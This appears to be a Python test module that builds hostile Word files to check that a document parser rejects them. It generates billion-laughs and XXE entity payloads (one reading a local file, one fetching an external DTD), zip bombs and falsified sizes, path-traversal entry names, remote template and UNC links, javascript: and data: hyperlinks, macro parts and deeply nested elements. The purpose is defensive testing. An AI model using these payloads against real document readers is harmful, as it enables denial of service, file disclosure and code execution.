"""Word files made to harm whoever opens them: too large, untrue, reaching out, active, or too deep."""

import struct
from collections.abc import Callable, Iterator
from pathlib import Path

from tests.formats.docx_made import (
    DECLARATION,
    MAIN,
    content_types,
    document,
    docx,
    entries,
    ins,
    p,
    packed,
    part,
    relation,
    relations,
    t,
    tracked,
)

MEGABYTE = 1_000_000
Made = Callable[[str], bytes]
"""Makes a file; what it reaches out to is at the address given."""


def _stored(main: str | bytes, *more: tuple[str, str | bytes], related: str = "") -> bytes:
    return packed([*entries(main, related), *more])


def _doctype(declared: str, words: str) -> bytes:
    return _stored(f'<?xml version="1.0"?><!DOCTYPE d {declared}>' + document(p(f"<w:r><w:t>{words}</w:t></w:r>")))


def _laughs(_: str) -> bytes:
    grown = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return _doctype(f'[<!ENTITY l0 "lol">{grown}]', "&l9;")


def _settings(address: str) -> bytes:
    template = relations(relation("attachedTemplate", f"{address}/evil.dotm", is_external=True))
    return _stored(
        document(p("x")), ("word/settings.xml", part("settings", "")), ("word/_rels/settings.xml.rels", template)
    )


def _linked(kind: str, target: str) -> Made:
    return lambda address: docx(p("x"), related=relation(kind, target.format(address=address), is_external=True))


def _nested(before: str, after: str, times: int) -> Made:
    return lambda _: docx(f"{before * times}{p('x')}{after * times}")


def _lying(_: str) -> bytes:
    """Return a file whose text says that it is short, and is not."""
    content = bytearray(docx(p("A" * (60 * MEGABYTE))))
    name, at = b"word/document.xml", 0
    while (at := content.find(name, at)) >= 0:
        if content[at - 30 : at - 26] == b"PK\x03\x04":
            content[at - 8 : at - 4] = struct.pack("<I", 500)
        elif content[at - 46 : at - 42] == b"PK\x01\x02":
            content[at - 22 : at - 18] = struct.pack("<I", 500)
        at += 1
    return bytes(content)


def _locked(_: str) -> bytes:
    """Return a file whose parts say that they are locked with a password."""
    content = bytearray(docx(p("x")))
    for sign, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = 0
        while (at := content.find(sign, at)) >= 0:
            content[at + offset] |= 1
            at += 1
    return bytes(content)


def _many_paragraphs(_: str) -> bytes:
    return docx(p("x") * 700_000)


def _attributes(_: str) -> bytes:
    """Return a file that is small to count and large as a tree."""
    run = "<w:r a='' b='' c='' d='' e='' f=''/>"
    return docx(f"<w:p>{run * 500_000}</w:p>")


def _tracked(times: int) -> bytes:
    return docx(f"<w:p>{''.join(ins(f'{n * 7919 % 99991:x}{n * 104729 % 99989:x}') for n in range(times))}</w:p>")


def _wide(_: str) -> bytes:
    return _stored(f"{DECLARATION}{document(p('x'))}".replace("UTF-8", "UTF-16").encode("utf-16"))


REFUSED: dict[str, tuple[Made, str]] = {
    "unpacks to 100 MB": (lambda _: docx(p("A" * (100 * MEGABYTE))), "unpacks"),
    "several large parts": (lambda _: _stored(document(p("x")), *_large_parts()), "unpacks"),
    "as many elements as fit": (lambda _: docx(f"<w:p>{'<w:r/>' * 3_000_000}</w:p>"), "unpacks"),
    "attributes without end": (_attributes, "unpacks"),
    "so many paragraphs": (_many_paragraphs, "unpacks"),
    "more paragraphs than are read": (lambda _: docx(p("x") * 20_001), "paragraphs"),
    "more tracked changes than are read": (lambda _: _tracked(50_001), "tracked changes"),
    "a hundred thousand tracked changes": (lambda _: _tracked(100_000), "tracked changes"),
    "many parts": (lambda _: _stored(document(p("x")), *((f"a/{n}", b"") for n in range(8000))), "unpacks"),
    "a size that is not true": (_lying, "damaged"),
    "larger than any file": (lambda _: b"PK\x03\x04" + bytes(11 * MEGABYTE), "larger"),
    "entities that grow": (_laughs, "declares"),
    "an entity that is a file": (
        lambda _: _doctype(f'[<!ENTITY x SYSTEM "file://{Path(__file__).resolve()}">]', "start &x; end"),
        "declares",
    ),
    "an entity elsewhere": (
        lambda a: _doctype(f'SYSTEM "{a}/dtd" [<!ENTITY % p SYSTEM "{a}/p">%p;]', "x"),
        "declares",
    ),
    "entities in another part": (
        lambda _: docx(p("x"), comments=f'<!DOCTYPE c [<!ENTITY a "b">]>{part("comments", "")[55:]}'),
        "declares",
    ),
    "a linked picture": (_linked("image", "{address}/image.png"), "another place"),
    "a text taken in": (_linked("aFChunk", "{address}/chunk.html"), "another place"),
    "a template elsewhere": (_settings, "another place"),
    "a file on a server": (_linked("oleObject", "\\\\server\\share\\x.xlsx"), "another place"),
    "a link that runs": (_linked("hyperlink", "javascript:alert(1)"), "run a program"),
    "a link that runs, in disguise": (_linked("hyperlink", " java\tscript:alert(1)"), "run a program"),
    "a link that holds a page": (_linked("hyperlink", "data:text/html,<script>1</script>"), "run a program"),
    "names that lead out": (lambda _: _stored(document(p("x")), ("../../../tmp/evil.txt", "x")), "lead out"),
    "names from the root": (lambda _: _stored(document(p("x")), ("/tmp/evil.txt", "x")), "lead out"),
    "two texts of one name": (
        lambda _: _stored(document(p("first")), ("word/document.xml", document(p("second")))),
        "same name",
    ),
    "two texts of nearly one name": (
        lambda _: _stored(document(p("first")), ("word/Document.xml", document(p("second")))),
        "same name",
    ),
    "two bodies": (
        lambda _: _stored(document(p("first")).replace("</w:body>", f"</w:body><w:body>{p('second')}</w:body>", 1)),
        "several texts",
    ),
    "macros": (lambda _: _stored(document(p("x")), ("word/vbaProject.bin", b"x")), "macros"),
    "a file for macros": (
        lambda _: packed(
            [
                ("[Content_Types].xml", content_types("application/vnd.ms-word.document.macroEnabled.main+xml")),
                *entries(document(p("x")))[1:],
            ]
        ),
        "macros",
    ),
    "a template": (
        lambda _: packed(
            [
                ("[Content_Types].xml", content_types(MAIN.replace("document.main", "template.main"))),
                *entries(document(p("x")))[1:],
            ]
        ),
        "not a Word document",
    ),
    "locked with a password": (lambda _: b"\xd0\xcf\x11\xe0" + bytes(1000), "password"),
    "parts that are locked": (_locked, "password"),
    "three thousand deep": (
        lambda _: docx(f"<w:p>{'<w:smartTag>' * 3000}{t('deep')}{'</w:smartTag>' * 3000}</w:p>"),
        "nests",
    ),
    "tables in tables": (_nested("<w:tbl><w:tr><w:tc>", "</w:tc></w:tr></w:tbl>", 500), "nests"),
    "not whole": (lambda _: _stored(document(p("x"))[:-20]), "damaged"),
    "half a file": (lambda _: docx(p("x"))[:400], "not a Word document"),
    "no text at all": (lambda _: packed([("a.txt", "x")]), "not a Word document"),
    "a picture": (lambda _: b"\x89PNG" + bytes(100), "not a Word document"),
    "nothing": (lambda _: b"", "not a Word document"),
}
"""Name → how the file is made, and a word of the sentence with which it is refused."""

READ: dict[str, Made] = {
    "a script for an author": lambda _: docx(
        p(tracked("ins", t("x <img src=x onerror=alert(1)>"), "<script>alert(1)</script>", "9999-99-99T00:00:00Z")),
    ),
    "a field that reaches out": lambda a: docx(
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> INCLUDEPICTURE "{a}/x" </w:instrText>'
        f'</w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>{t("shown")}'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    ),
    "another encoding": _wide,
    "as many tracked changes as are read": lambda _: _tracked(49_000),
    "as many paragraphs as are read": lambda _: docx(p("x") * 20_000),
    "a template at home": lambda _: _stored(
        document(p("x")),
        ("word/settings.xml", part("settings", "")),
        (
            "word/_rels/settings.xml.rels",
            relations(relation("attachedTemplate", "file:///C:\\Templates\\UN.dotx", is_external=True)),
        ),
    ),
    "an ordinary link": _linked("hyperlink", "https://un.example/doc"),
    "numbers that are none": lambda _: docx(
        '<w:p><w:pPr><w:outlineLvl w:val="²"/><w:numPr><w:ilvl w:val="x"/><w:numId w:val="-1"/></w:numPr></w:pPr>'
        '<w:r><w:sym w:char="zzzz"/><w:sym w:char="D800"/><w:sym w:char="FFFFFFFF"/><w:t>x</w:t></w:r></w:p>'
    ),
}
"""Name → how a file is made that looks dangerous and may be read."""


def _large_parts() -> Iterator[tuple[str, bytes]]:
    return ((f"word/media/{n}.xml", bytes(15 * MEGABYTE)) for n in range(8))
